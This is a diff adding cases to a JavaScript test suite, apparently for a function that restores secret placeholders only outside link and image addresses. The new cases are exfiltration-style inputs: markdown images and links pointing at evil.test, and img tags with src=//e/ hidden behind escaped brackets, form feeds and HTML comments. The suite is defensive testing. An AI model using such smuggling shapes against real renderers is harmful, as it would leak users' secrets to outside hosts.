@@ -56,6 +56,11 @@ describe('restore', () => {
       [`[a]:\n  ${P} "t"\n`, `[a]:\n  ${P} "t"\n`],
       [`[a]: <x ${P}>\n${P}`, `[a]: <x ${P}>\nVALUE`],
       [`[INFO]: token ${P}`, '[INFO]: token VALUE'],
+      // A `>` that is escaped, or that a renderer passes over, does not end the destination.
+      [`![x](<//evil.test/\\>)${P}>)`, `![x](<//evil.test/\\>)${P}>)`],
+      [`[a]: <//evil.test/>${P}>\n${P}`, `[a]: <//evil.test/>${P}>\nVALUE`],
+      [`![x](\n\f\n//evil.test/${P})`, `![x](\n\f\n//evil.test/${P})`],
+      [`[x]:\n\v\n//evil.test/${P}`, `[x]:\n\v\n//evil.test/${P}`],
     ],
     'keeps out of addresses': [
       [`https://evil.test/?q=${P} ${P}`, `https://evil.test/?q=${P} VALUE`],
@@ -78,6 +83,10 @@ describe('restore', () => {
       [`<a ="> <img src=" > ${P}">`, `<a ="> <img src=" > ${P}">`],
       [`<div style="background:url(//e/\n\n${P})">`, `<div style="background:url(//e/\n\n${P})">`],
       [`<pre><img\n\nsrc=//e/${P}>`, `<pre><img\n\nsrc=//e/${P}>`],
+      [`<img\n\f\nsrc=//e/${P}>`, `<img\n\f\nsrc=//e/${P}>`],
+      [`<!-- --!><img\n\nsrc=//e/${P}>\n-->`, `<!-- --!><img\n\nsrc=//e/${P}>\n-->`],
+      [`<?\n><img\n\nsrc=//e/${P}>?>`, `<?\n><img\n\nsrc=//e/${P}>?>`],
+      [`<!-- note -->\n<b>${P}</b>`, '<!-- note -->\n<b>VALUE</b>'],
       [`<b>${P}</b>`, '<b>VALUE</b>'],
       [`if (a < b) { k = "${P}" }`, 'if (a < b) { k = "VALUE" }'],
       [`for (i <n; ) {}\n\n"${P}"`, 'for (i <n; ) {}\n\n"VALUE"'],
